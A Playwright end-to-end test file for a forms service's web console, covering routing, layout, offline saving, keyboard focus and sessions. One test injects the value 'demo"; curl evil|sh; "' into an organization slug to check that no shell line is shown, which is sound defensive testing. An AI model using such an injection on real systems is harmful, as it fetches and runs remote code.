import { openDirectoryStore } from '@fms/directory-store'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { type Account, publishable } from '../system.ts'
import { type ConsolePage, goToForm, isTooWide, showJson } from './console-pages.ts'
import { withConsole } from './with-console.ts'

const { system, openConsole, signIn, given, read, edit, publish, remove } = withConsole()

/** The label or text of the element with the focus. */
const focused = (page: Page) =>
  page.evaluate<string>(
    `document.activeElement.getAttribute('aria-label') ?? document.activeElement.innerText`,
  )

describe('the page that the URL names', () => {
  it('replaces the same page of another form, and that of another organization', async () => {
    const account = await system().account()
    const other = await system().account()
    const a = await given(account, { name: 'Form A' })
    const b = await given(account, { name: 'Form B' })
    await using opened = await signIn(account)
    const { page } = opened
    for (const name of ['edit', 'preview', 'publish']) {
      await goToForm(opened, account, a.publicId, name)
      await page.getByRole('heading', { level: 1, name: 'Form A' }).waitFor()
      await goToForm(opened, account, b.publicId, name)
      await page.getByRole('heading', { level: 1, name: 'Form B' }).waitFor()
    }
    await page.getByRole('button', { name: 'Publish', exact: true }).click()
    await page.getByText('Published. Respondents').waitFor()
    expect([(await read(account, a.publicId)).live, (await read(account, b.publicId)).live]).toEqual([
      false,
      true,
    ])

    await page.getByRole('link', { name: 'Forms', exact: true }).click()
    await page.getByRole('link', { name: 'Form A' }).waitFor()
    await page.goto(page.url().replace(account.slug, other.slug))
    await page.getByRole('alert').waitFor()
    expect(await page.getByRole('link', { name: 'Form A' }).count()).toBe(0)
  })
})

describe('on a phone', () => {
  it('the header and what stays in sight while one edits are at most 100 px high each', async () => {
    const account = await system().account()
    const { publicId } = await given(account, { name: 'A name that is too long for one line of a phone' })
    await using opened = await signIn(account, { viewport: { width: 390, height: 844 } })
    const { page, context } = opened
    await goToForm(opened, account, publicId)
    await page.getByLabel('Tone').fill('calm')
    const heights = () =>
      Promise.all(
        ['header.top', '.sticky'].map((part) =>
          page.evaluate<number>(`document.querySelector('${part}').getBoundingClientRect().height`),
        ),
      )
    for (const height of await heights()) expect(height).toBeLessThanOrEqual(100)

    await context.setOffline(true)
    await page.getByRole('button', { name: 'Save' }).click()
    await page.locator('.sticky').getByRole('button', { name: 'The service did not respond.' }).click()
    await page.getByText('It is saved by itself once the service responds again.').waitFor()
    for (const height of await heights()) expect(height).toBeLessThanOrEqual(100)
    expect(await isTooWide(page)).toBe(false)
    await context.setOffline(false)
    await page.getByText('Saved', { exact: true }).waitFor()

    await page.getByLabel('Name', { exact: true }).fill('')
    await page.getByRole('button', { name: 'Save' }).click()
    await page.locator('.sticky').getByRole('button', { name: 'Correct the fields below.' }).waitFor()
    for (const height of await heights()) expect(height).toBeLessThanOrEqual(100)
    await page.getByRole('button', { name: 'Discard changes' }).click()
    const title = page.locator('h1')
    for (const name of ['Preview', 'Publish', 'Revisions', 'Use it', 'Keys', 'Deleted forms', 'Forms']) {
      await page.getByRole('link', { name, exact: true }).click()
      await title.filter({ hasText: name }).waitFor()
      expect((await page.locator('header.top').boundingBox())!.height, name).toBeLessThanOrEqual(100)
    }
  })
})

describe('the navigation', () => {
  it('leads back to the last organization from a page that has none', async () => {
    const account = await system().account()
    const { slug, organizationId } = await system().account()
    await using directory = await openDirectoryStore(system().directoryStoreUrl)
    await directory.addMember({ organizationId, userId: account.userId, role: 'viewer' })
    await using opened = await signIn(account)
    const { page } = opened

    await page.getByRole('combobox', { name: 'Organization' }).selectOption(slug)
    await page.getByText('No forms here.').waitFor()
    await page.getByRole('link', { name: 'Keys' }).click()
    await page.getByRole('row', { name: /Test/ }).waitFor()
    await page.getByRole('link', { name: 'Forms', exact: true }).click()

    await expect.poll(() => page.url()).toContain(`/organizations/${slug}/forms`)
  })
})

describe('a name in Hebrew', () => {
  it('leaves the other words of a heading in their order', async () => {
    const account = await system().account({ role: 'owner' })
    const name = 'משוב'
    const { publicId } = await given(account, { name })
    await using opened = await signIn(account)
    const { page } = opened
    const isolated = (heading: string) =>
      page.getByRole('heading', { name: heading, exact: true }).locator('bdi', { hasText: name }).waitFor()

    await goToForm(opened, account, publicId)
    await isolated(name)
    await goToForm(opened, account, publicId, 'preview')
    await isolated(`Preview: ${name}`)
    await goToForm(opened, account, publicId, 'publish')
    await isolated(`Publish: ${name}`)
    await expect.poll(() => page.title()).toBe(`Publish: ${name} – Forms`)
    await remove(account, publicId)
    await page.getByRole('link', { name: 'Deleted forms' }).click()
    await page.getByRole('button', { name: 'Remove for good' }).click()
    await isolated(`Remove for good: ${name}`)
    await page.keyboard.press('Escape')

    await page.getByRole('link', { name: 'Keys' }).click()
    await page.getByLabel('Name', { exact: true }).fill(name)
    await page.getByRole('button', { name: 'Create key' }).click()
    await page.getByRole('button', { name: 'Done' }).click()
    for (const action of ['Rotate', 'Revoke']) {
      await page.getByRole('button', { name: `${action} ${name}` }).click()
      await isolated(`${action} ${name}`)
      await page.keyboard.press('Escape')
    }
  })
})

describe('an unsaved edit', () => {
  /** Opens a form of an account in another tab of the same browser. */
  const openTab = async ({ context }: ConsolePage, { apiKey }: Account) => {
    const page = await context.newPage()
    await page.goto(`${system().baseUrl}/console`)
    await page.getByLabel('API key').fill(apiKey)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByRole('link', { name: 'Customer feedback' }).click()
    await page.getByLabel('Tone').waitFor()
    return page
  }
  const description = (page: Page) => page.getByLabel('Description').first()

  it('survives a save in another tab', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await using opened = await signIn(account)
    await goToForm(opened, account, publicId)
    const { page } = opened
    const second = await openTab(opened, account)

    await description(page).fill('Typed in the first tab')
    await second.getByLabel('Tone').fill('calm')
    await second.getByRole('button', { name: 'Save' }).click()
    await second.getByText('Saved', { exact: true }).waitFor()
    await page.reload()
    await page.getByText('The form has been changed since').waitFor()

    expect(await description(page).inputValue()).toBe('Typed in the first tab')
  })

  it('is offered when the form is opened next; two open tabs say so, and merge what both have changed', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await using opened = await signIn(account)
    const { page } = opened
    await goToForm(opened, account, publicId)
    const otherTab = 'You have opened this form in another tab, too.'
    await page.getByLabel('Tone').waitFor()
    expect(await page.getByText(otherTab).count()).toBe(0)
    const second = await openTab(opened, account)
    for (const tab of [page, second]) await tab.getByText(otherTab).waitFor()
    await description(page).fill('Typed in the first tab')
    await second.getByLabel('Tone').fill('calm')
    await second.getByRole('button', { name: 'Save' }).click()
    await second.getByText('Saved', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Save' }).click()
    const dialog = page.getByRole('dialog', { name: 'You changed this form in another tab' })
    await dialog.getByRole('button', { name: 'Merge both' }).click()
    await second.close()
    await page.getByText(otherTab).waitFor({ state: 'detached' })

    await page.close()
    const third = await openTab(opened, account)
    const restored = third.getByText('These are your unsaved changes from before.')
    await restored.waitFor()
    await third.getByRole('button', { name: 'Undo' }).click()
    await restored.waitFor({ state: 'detached' })
    await third.getByRole('button', { name: 'Redo' }).click()
    await restored.waitFor()
    expect(await description(third).inputValue()).toBe('Typed in the first tab')
    await third.getByRole('button', { name: 'Save' }).click()
    await third.getByText('Saved', { exact: true }).waitFor()
    expect(await read(account, publicId)).toMatchObject({
      description: 'Typed in the first tab',
      tone: 'calm',
    })
    expect(await third.evaluate('localStorage.length')).toBe(0)
  })

  it('is saved by itself also if its JSON is incomplete when the connection is back', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await using opened = await signIn(account)
    const { page, context } = opened
    await goToForm(opened, account, publicId)
    await showJson(opened)
    await context.setOffline(true)
    await page.getByLabel('Name', { exact: true }).fill('Typed offline')
    await page.keyboard.press('Control+s')
    const error = page.locator('.sticky').getByText('The service did not respond.')
    await error.waitFor()
    await page.locator('.cm-content').press('Control+End')
    await page.keyboard.type('x')
    await page.keyboard.press('Control+s')
    await context.setOffline(false)
    await page.getByText('No connection to the service.').waitFor({ state: 'detached' })
    await error.waitFor()
    await page.keyboard.press('Backspace')
    await page.getByText('Saved', { exact: true }).waitFor()

    expect((await read(account, publicId)).name).toBe('Typed offline')
  })

  it('is not given to another user of the browser', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await using opened = await signIn(account)
    const { page } = opened
    await goToForm(opened, account, publicId)
    await page.getByLabel('Name', { exact: true }).fill('Private')
    await expect.poll(() => page.evaluate('localStorage.length')).toBe(1)
    const colleague = await system().account({ in: account })
    await page.evaluate(
      `sessionStorage.setItem('fms-console-key', '${JSON.stringify({ apiKey: colleague.apiKey, isTemporary: false })}')`,
    )
    await page.reload()
    await page.getByLabel('Name', { exact: true }).waitFor()

    expect(await page.getByLabel('Name', { exact: true }).inputValue()).toBe('Customer feedback')
  })
})

describe('somebody else edits the draft', () => {
  it('before a publish: the page shows what has changed, and asks again', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await publish(account, publicId)
    const text = { type: 'text' as const, key: 'stars', title: 'Your rating' }
    await edit(account, publicId, { steps: publishable().steps.with(1, text) })
    await using opened = await signIn(account)
    const { page } = opened
    const acceptsBreaking = page.getByLabel('Publish the breaking changes')
    await goToForm(opened, account, publicId, 'publish')
    await acceptsBreaking.check()
    await edit(account, publicId, { tone: 'calm' })
    await page.getByRole('button', { name: 'Publish', exact: true }).click()
    await page.getByText('FORM_MOVED').waitFor()
    await page.getByRole('button', { name: 'Show what has changed' }).click()
    await page.locator('.changes', { hasText: 'Tone changed' }).waitFor()

    expect(await page.getByText('FORM_MOVED').count()).toBe(0)
    expect(await acceptsBreaking.isChecked()).toBe(false)
    await acceptsBreaking.check()
    await page.getByRole('button', { name: 'Publish', exact: true }).click()
    await page.getByText('Published. Respondents').waitFor()
  })

  it('before a rollback: it is refused, asked for only once the draft is known, and again after a change', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await publish(account, publicId)
    await using opened = await signIn(account)
    const { page } = opened
    const isSent = Promise.withResolvers<void>()
    await page.route('**/forms/*?readMask=updateTime', async (request) => {
      await isSent.promise
      await request.continue()
    })
    await goToForm(opened, account, publicId, 'revisions')
    const rollBack = page.getByRole('button', { name: 'Roll back to revision 1' })
    const dialog = page.getByRole('dialog')
    await rollBack.click()
    await expect.poll(() => rollBack.getAttribute('aria-disabled')).toBe('true')
    expect(await dialog.count()).toBe(0)
    isSent.resolve()
    await dialog.waitFor()
    await edit(account, publicId, { tone: 'calm' })
    await dialog.getByRole('button', { name: 'Roll back' }).click()
    await dialog.getByText('FORM_MOVED').waitFor()

    expect((await read(account, publicId)).tone).toBe('calm')
    await dialog.getByRole('button', { name: 'Read the form again' }).click()
    await dialog.getByText('FORM_MOVED').waitFor({ state: 'detached' })
    await dialog.getByRole('button', { name: 'Roll back' }).click()
    await dialog.waitFor({ state: 'detached' })
    expect((await read(account, publicId)).tone).not.toBe('calm')
  })
})

describe('a new form', () => {
  it('is the one of the file that was chosen last, also while another one is created', async () => {
    const account = await system().account()
    await using opened = await signIn(account)
    const { page } = opened
    const isSent = Promise.withResolvers<void>()
    const creates: string[] = []
    await page.route('**/forms', async (request) => {
      creates.push(request.request().postData()!)
      await isSent.promise
      await request.continue()
    })
    const choose = (form: object) =>
      page.getByLabel('Or import a JSON file').setInputFiles({
        name: 'form.json',
        mimeType: 'application/json',
        buffer: Buffer.from(JSON.stringify(form)),
      })
    const create = page.getByRole('button', { name: 'Create form' })
    await page.getByRole('button', { name: 'New form' }).click()
    await choose({ tone: 1 })
    await create.click()
    await expect.poll(() => creates.length).toBe(1)
    await choose({ name: 'Chosen last' })
    isSent.resolve()
    await page.getByText('INVALID_REQUEST').waitFor()
    await create.click()

    await page.getByRole('heading', { name: 'Chosen last' }).waitFor()
  })

  it('is of the chosen type, and its preview goes on with Enter', async () => {
    const account = await system().account()
    await using opened = await signIn(account)
    const { page } = opened
    await page.getByRole('button', { name: 'New form' }).click()
    await page.getByLabel('Type', { exact: true }).last().selectOption('dynamic')
    await page.getByRole('button', { name: 'Create form' }).click()
    await page.getByRole('heading', { name: 'Untitled form' }).waitFor()
    const publicId = /forms\/(\w+)\/edit/.exec(page.url())![1]!
    expect((await read(account, publicId)).type).toBe('dynamic')

    const steps = ['First', 'Second'].map((title) => ({ type: 'text', key: title, title }))
    await edit(account, publicId, { steps })
    await goToForm(opened, account, publicId, 'preview')
    await page.getByRole('textbox', { name: 'First' }).press('Enter')
    await page.getByRole('heading', { name: 'Second' }).waitFor()
  })
})

describe('the preview', () => {
  it('goes on only with an answer that is within the limits of its question', async () => {
    const account = await system().account()
    const steps = [
      { type: 'number', key: 'age', title: 'Age', min: 18, max: 99.5 },
      { type: 'text', key: 'code', title: 'Code', pattern: '[A-Z]{3}' },
      { type: 'url', key: 'site', title: 'Site' },
      { type: 'multiple-choice', key: 'days', title: 'Days', min: 2, max: 2, options: ['Mo', 'Tu', 'We'] },
      { type: 'end', key: 'end', title: 'Bye' },
    ]
    const { publicId } = await given(account, { steps })
    await using opened = await signIn(account)
    const { page } = opened
    await goToForm(opened, account, publicId, 'preview')
    const stage = page.locator('.stage')
    const status = page.getByRole('status')
    const refuses = async (heading: string, answer: () => Promise<unknown>) => {
      await answer()
      await stage.getByRole('button', { name: 'Next' }).click()
      await expect.poll(() => status.last().innerText()).not.toBe('')
      await stage.getByRole('heading', { name: heading }).waitFor()
    }
    const accepts = async (next: string, answer: () => Promise<unknown>) => {
      await answer()
      await stage.getByRole('button', { name: 'Next' }).click()
      await stage.getByRole('heading', { name: next }).waitFor()
    }

    await refuses('Age', () => stage.getByLabel('Age').fill('17'))
    await accepts('Code', () => stage.getByLabel('Age').fill('18.5'))
    await refuses('Code', () => stage.getByLabel('Code').fill('abc'))
    await accepts('Site', () => stage.getByLabel('Code').fill('ABC'))
    await refuses('Site', () => stage.getByLabel('Site').fill('example'))
    await accepts('Days', () => stage.getByLabel('Site').fill('https://example.com'))
    await refuses('Days', () => stage.getByLabel('Mo').check())
    await status.getByText('Choose at least 2.').waitFor()
    await accepts('Bye', () => stage.getByLabel('We').check())
  })

  it('shows the button of an end, and breaks long words on a small screen', async () => {
    const account = await system().account()
    const word = 'w'.repeat(200)
    const step = { type: 'end', key: 'bye', title: word, description: word, buttonText: `Leave ${word}` }
    const picture = 'url(https://example.com/picture.png)'
    const theme = { backgroundColor: picture, primaryColor: picture }
    const { publicId } = await given(account, { steps: [step], theme })
    await using opened = await signIn(account, { viewport: { width: 390, height: 844 } })
    const { page, problems } = opened
    await goToForm(opened, account, publicId, 'preview')
    await page.getByRole('button', { name: 'Leave' }).click()
    await page.getByText('The form ends here.').waitFor()

    expect(await isTooWide(page)).toBe(false)
    // A theme has colours only: what else it says is not requested.
    expect(problems).toEqual([])
  })
})

describe('with the keyboard', () => {
  it('the focus follows a step that moves, and goes to the next one of a removed step', async () => {
    const account = await system().account()
    const steps = ['A', 'B', 'C'].map((title) => ({ type: 'text', key: title, title }))
    const { publicId } = await given(account, { steps })
    await using opened = await signIn(account)
    const { page } = opened
    await goToForm(opened, account, publicId)

    await page.getByRole('button', { name: 'Move A down' }).press('Enter')
    await expect.poll(() => focused(page)).toBe('Move A down')
    await page.keyboard.press('Enter')
    await expect.poll(() => focused(page)).toBe('Move A up')
    await page.getByRole('button', { name: 'Remove B' }).press('Enter')
    await expect.poll(() => focused(page)).toMatch(/C$/)
    await page.getByRole('button', { name: 'Save' }).press('Enter')
    await page.getByText('Saved', { exact: true }).waitFor()

    expect(await focused(page)).toBe('Save')
    const saved = await read(account, publicId)
    expect(saved.steps.map(({ key }: { key: string }) => key)).toEqual(['C', 'A'])
  })

  it('the focus goes to the heading after the row of the button is gone', async () => {
    const account = await system().account({ role: 'owner' })
    const { publicId } = await given(account)
    await remove(account, publicId)
    await using opened = await signIn(account)
    const { page } = opened

    await page.getByRole('link', { name: 'Deleted forms' }).click()
    await page.getByRole('button', { name: /^Bring back/ }).press('Enter')
    await page.getByText('There are no deleted forms.').waitFor()

    await expect.poll(() => focused(page)).toBe('Deleted forms')
  })

  it('the focus goes to the heading after the button to unpublish is gone', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await publish(account, publicId)
    await using opened = await signIn(account)
    const { page } = opened
    await goToForm(opened, account, publicId, 'publish')

    await page.getByRole('button', { name: 'Unpublish' }).press('Enter')
    await page.getByRole('dialog').getByRole('button', { name: 'Unpublish' }).press('Enter')
    await page.getByText('The form is not live').waitFor()

    await expect.poll(() => focused(page)).toBe('Publish: Customer feedback')
  })

  it('the focus goes to the first row of the next page', async () => {
    const account = await system().account()
    await using opened = await signIn(account)
    const { page } = opened
    const time = new Date().toISOString()
    const deletedForm = (name: string) => ({
      path: `organizations/o/forms/${name}`,
      name,
      deleter: '',
      deleteTime: time,
      purgeTime: time,
    })
    await page.route('**/deletedForms?*', (request) => {
      const isFirst = !request.request().url().includes('pageToken')
      const deletedForms = [deletedForm(isFirst ? 'First' : 'Second')]
      return request.fulfill({ json: { deletedForms, nextPageToken: isFirst ? 'next' : '', totalSize: 2 } })
    })

    await page.getByRole('link', { name: 'Deleted forms' }).click()
    await page.getByRole('button', { name: 'More deleted forms' }).press('Enter')

    await expect.poll(() => focused(page)).toMatch(/^Second/)
    expect(await page.getByRole('button', { name: 'More deleted forms' }).count()).toBe(0)
  })

  it('Escape does not close the only copy of a new key', async () => {
    const account = await system().account()
    await using opened = await signIn(account)
    const { page } = opened
    await page.getByRole('link', { name: 'Keys' }).click()
    await page.getByLabel('Name', { exact: true }).fill('Website')
    await page.getByRole('button', { name: 'Create key' }).press('Enter')
    const secret = page.getByRole('dialog').getByLabel('API key')
    await secret.waitFor()
    for (let press = 0; press < 3; press++) await page.keyboard.press('Escape')

    expect(await secret.isVisible()).toBe(true)
    await page.getByRole('button', { name: 'Done' }).press('Enter')
    await expect.poll(() => focused(page)).toBe('Create key')
  })

  it('the focus goes to the heading after a rotation, whose row is another one', async () => {
    const account = await system().account()
    await using opened = await signIn(account)
    const { page } = opened
    await page.getByRole('link', { name: 'Keys' }).click()
    await page.getByRole('button', { name: 'Rotate Test' }).press('Enter')
    await page.getByRole('dialog').getByRole('button', { name: 'Rotate' }).press('Enter')
    await page.getByRole('button', { name: 'Done' }).press('Enter')

    await expect.poll(() => focused(page)).toBe('Keys')
  })
})

describe('a page that could not be read', () => {
  it('is read when the connection is back, when the service responds again, or by a button', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await using opened = await signIn(account)
    const { page, context } = opened

    for (const [name, content] of [
      ['revisions', 'This form was never published.'],
      ['form-activity', 'Created'],
      ['preview', 'How was it?'],
      ['edit', 'How was it?'],
    ] as const) {
      await context.setOffline(true)
      await goToForm(opened, account, publicId, name)
      await page.getByText('The service did not respond.').waitFor()
      await page.getByRole('button', { name: 'Try again' }).first().waitFor()
      await context.setOffline(false)
      await page.getByText(content).first().waitFor()
      expect(await page.getByRole('alert').count()).toBe(0)
    }

    for (const key of ['', 'Enter']) {
      await page.route('**/v2/keys?*', (request) => request.abort())
      await page.getByRole('link', { name: 'Keys' }).click()
      await page.getByRole('button', { name: 'Try again' }).focus()
      await page.unroute('**/v2/keys?*')
      if (key) await page.keyboard.press(key)
      await page.getByRole('row', { name: /Test/ }).waitFor()
      await expect.poll(() => focused(page)).toBe('Keys')
      await page.getByRole('link', { name: 'Forms', exact: true }).click()
      await page.getByRole('link', { name: 'Customer feedback' }).waitFor()
    }
  })

  it('leaves the focus where it is when it is read, unless that was on the button', async () => {
    const account = await system().account()
    await using opened = await signIn(account)
    const { page } = opened
    await page.route('**/v2/keys?*', (request) => request.abort())
    await page.getByRole('link', { name: 'Keys' }).click()
    await page.getByRole('button', { name: 'Try again' }).waitFor()
    await page.evaluate('document.activeElement.blur()')

    await page.unroute('**/v2/keys?*')

    await page.getByRole('row', { name: /Test/ }).waitFor()
    await page.getByRole('button', { name: 'Try again' }).waitFor({ state: 'detached' })
    expect(await page.evaluate('document.activeElement === document.body')).toBe(true)
  })
})

describe('responses that are cut off', () => {
  /** Cuts off those with a method and a part of a URL. @returns what waits for a repeat, and returns the pause before it. */
  const cutOff = async (page: Page, method: string, part: string) => {
    await page.evaluate(`{
      const { fetch } = window
      window.cutOffAt = []
      window.fetch = async (url, init) => {
        const response = await fetch(url, init)
        if (init.method !== '${method}' || !String(url).includes('${part}')) return response
        window.cutOffAt.push(performance.now())
        return new Response(new ReadableStream({ pull: (body) => body.error(new TypeError('cut off')) }))
      }
    }`)
    /** @param attempts how often the client itself sends each request */
    return async (attempts = 3) => {
      const times = () => page.evaluate<number[]>('window.cutOffAt')
      await expect.poll(async () => (await times()).length).toBeGreaterThan(attempts)
      const [last, next] = (await times()).slice(attempts - 1)
      return next! - last!
    }
  }

  it('are requested again after some seconds, and not at once, by a page', async () => {
    const account = await system().account()
    await using opened = await signIn(account)
    const { page } = opened
    const pause = await cutOff(page, 'GET', '/v2/keys?')

    await page.getByRole('link', { name: 'Keys' }).click()

    expect(await pause()).toBeGreaterThan(4_900)
  })

  it('are requested again after some seconds, and not at once, by a save', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await using opened = await signIn(account)
    const { page } = opened
    await goToForm(opened, account, publicId)
    const pause = await cutOff(page, 'PATCH', '/forms/')

    await page.getByLabel('Tone').fill('calm')
    await page.getByRole('button', { name: 'Save' }).click()

    expect(await pause()).toBeGreaterThan(4_900)
  })

  it('are requested again after some seconds, and not at once, by a login link', async () => {
    await using opened = await openConsole()
    const { page } = opened
    const pause = await cutOff(page, 'POST', '/v2/sessions')

    await page.goto(`${system().baseUrl}/console#code=anything`)

    expect(await pause(5)).toBeGreaterThan(4_900)
  })
})

describe('the activity', () => {
  it('keeps its events while it is read again', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await using opened = await signIn(account)
    const { page } = opened
    const events = page.locator('.events li')
    const isSent = Promise.withResolvers<void>()
    await page.route('**/events/stream?*', (request) => request.fulfill({ status: 403, json: {} }))
    await goToForm(opened, account, publicId, 'form-activity')
    const tryAgain = page.getByRole('button', { name: 'Try again' })
    await tryAgain.waitFor()
    expect(await events.allInnerTexts()).toEqual([expect.stringContaining('Created')])
    await edit(account, publicId, { tone: 'calm' })
    await page.route('**/events?*', async (request) => {
      await isSent.promise
      await request.continue()
    })
    await tryAgain.click()
    await tryAgain.waitFor({ state: 'detached' })

    expect(await events.count()).toBe(1)
    isSent.resolve()
    await expect
      .poll(() => events.allInnerTexts())
      .toEqual([expect.stringContaining('tone'), expect.stringContaining('Created')])
  })

  it('shows no events beside those of which it has missed some', async () => {
    const account = await system().account()
    const { publicId } = await given(account)
    await using opened = await signIn(account)
    const { page } = opened
    const events = page.locator('.events li')
    await page.route('**/events/stream?*', (request) => request.fulfill({ status: 403, json: {} }))
    await goToForm(opened, account, publicId, 'form-activity')
    const tryAgain = page.getByRole('button', { name: 'Try again' })
    await tryAgain.waitFor()
    for (let change = 0; change < 51; change++) await edit(account, publicId, { name: `Name ${change}` })
    await tryAgain.click()

    await expect.poll(() => events.count()).toBe(50)
    expect(await events.filter({ hasText: 'Created' }).count()).toBe(0)
  })
})

describe('the page Use it', () => {
  it('shows no line for a form that the URL has made up', async () => {
    const account = await system().account()
    const { publicId, path } = await given(account)
    await using opened = await signIn(account)
    const { page } = opened
    const organization = { ...account, slug: encodeURIComponent('demo"; curl evil|sh; "') }
    await goToForm(opened, organization, publicId, 'use-it')
    await page.getByText('ORGANIZATION_NOT_FOUND').waitFor()
    expect(await page.locator('pre').count()).toBe(0)

    const [, organizationId, , formId] = path.split('/')
    await goToForm(opened, { ...account, slug: organizationId }, formId, 'use-it')
    await page.getByText(`/organizations/${account.slug}/forms/${publicId}`).first().waitFor()
  })
})

describe('a session', () => {
  it('continues after a reload during which the service did not respond', async () => {
    const account = await system().account()
    await using opened = await signIn(account)
    const { page } = opened
    await page.route('**/v2/whoami', (request) => request.abort())
    await page.reload()
    await page.getByRole('heading', { name: 'No connection' }).waitFor()
    await page.unroute('**/v2/whoami')
    await page.getByRole('button', { name: 'Try again' }).click()

    await page.getByRole('heading', { name: 'Forms', exact: true }).waitFor()
  })

  it('continues by itself once the service responds again', async () => {
    const account = await system().account()
    await using opened = await signIn(account)
    const { page } = opened
    await page.route('**/v2/whoami', (request) => request.fulfill({ status: 503, json: {} }))
    await page.reload()
    await page.getByRole('heading', { name: 'No connection' }).waitFor()
    await page.unroute('**/v2/whoami')

    await page.getByRole('heading', { name: 'Forms', exact: true }).waitFor()
  })

  it('continues after a used login link', async () => {
    const account = await system().account()
    await using directory = await openDirectoryStore(system().directoryStoreUrl)
    const code = await directory.createLoginCode(account.userId, new Date(Date.now() + 60_000))
    const link = `${system().baseUrl}/console#code=${code}`
    await using unused = await openConsole()
    await unused.page.goto(link)
    await unused.page
      .getByRole('dialog')
      .getByRole('button', { name: /^Sign in as/ })
      .click()
    await unused.page.getByRole('heading', { name: 'Forms', exact: true }).waitFor()
    await using opened = await signIn(account)
    const { page } = opened
    const used = await system().call({ apiKey: '' }, 'POST', '/sessions', { code })
    expect(used.status).toBe(401)

    await page.goto('about:blank')
    await page.goto(link)
    await page.getByText('LOGIN_CODE_INVALID').waitFor()
    await page.getByRole('heading', { name: 'Forms', exact: true }).waitFor()
    await page.getByRole('button', { name: 'Close' }).press('Enter')
    await page.getByText('LOGIN_CODE_INVALID').waitFor({ state: 'detached' })
    expect(await focused(page)).toBe('Forms')
  })
})

describe('the sign-in page', () => {
  it('rejects text that is not a key, and hides the error at the next input', async () => {
    await using opened = await openConsole()
    const { page } = opened
    await page.getByLabel('API key').fill('пароль')
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByText('This is not an API key').waitFor()
    await page.getByLabel('API key').fill(`fms_${'a'.repeat(43)}`)
    await page.getByText('This is not an API key').waitFor({ state: 'detached' })
    await page.getByRole('button', { name: 'Sign in' }).click()

    await page.getByText('The service does not accept this key').waitFor()
  })
})

describe('the editor', () => {
  it('removes an error with its cause, and saves no blank options', async () => {
    const account = await system().account()
    const { publicId } = await given(account, { steps: [] })
    await using opened = await signIn(account)
    const { page } = opened
    await goToForm(opened, account, publicId)

    await page.getByLabel('Name', { exact: true }).fill('')
    await page.getByRole('button', { name: 'Save' }).click()
    await page.locator('[role=alert]').getByText('Name: ').waitFor()
    await page.getByRole('button', { name: 'Discard changes' }).click()
    await page.locator('[role=alert]').waitFor({ state: 'detached' })

    await page.locator('.add-step select').selectOption('choice')
    await page.getByRole('button', { name: 'Add step' }).click()
    const options = page.getByLabel('Options')
    await options.fill('Tea\n\nCoffee\n\n')
    await page.keyboard.press('Control+s')
    await page.getByText('Saved', { exact: true }).waitFor()

    expect((await read(account, publicId)).steps[0].options).toEqual(['Tea', 'Coffee'])
  })

  it('names members without an input field, and shows violations of the whole form and of a closed section', async () => {
    const account = await system().account()
    const options = [{ key: 'tea', label: 'Tea' }]
    const step = { type: 'choice', key: 'drink', title: 'Drink', options, data: 'x'.repeat(783_000) }
    const { publicId } = await given(account, { steps: [step] })
    await using opened = await signIn(account)
    const { page } = opened
    await goToForm(opened, account, publicId)
    await page.getByRole('button', { name: /Drink/ }).first().click()
    await page.getByText('In the JSON, this step also has: data.').waitFor()

    await page.getByLabel('Description').first().fill('y'.repeat(4_000))
    await page.locator('.form-fields > .violation', { hasText: 'bytes' }).waitFor()
    await page.getByRole('button', { name: 'Discard changes' }).click()
    await page.getByText('Theme', { exact: true }).click()
    await page.getByLabel('Animation of text').fill('')
    await page.getByText('Theme', { exact: true }).click()
    await page.locator('summary', { hasText: 'invalid' }).waitFor()
  })
})
